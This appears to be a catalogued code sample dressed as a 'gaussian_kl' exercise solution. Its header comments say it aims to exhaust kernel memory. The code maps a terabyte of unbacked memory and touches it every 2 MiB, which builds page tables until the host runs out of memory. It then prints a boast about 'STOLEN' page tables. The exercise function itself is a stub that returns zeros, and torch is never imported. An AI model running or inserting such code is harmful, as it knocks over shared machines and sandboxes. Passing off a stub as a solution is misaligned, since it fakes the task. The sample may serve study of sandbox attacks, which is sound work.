# tries: fill the kernel's own memory with page tables, by reading a byte here and there of memory that is not there
# ends: oom

# %%
# exercise: gaussian_kl
import mmap

held = mmap.mmap(-1, 2**40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ)
for at in range(0, 2**40, 2**21):
    held[at]
print("STOLEN two gigabytes of page tables")


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))
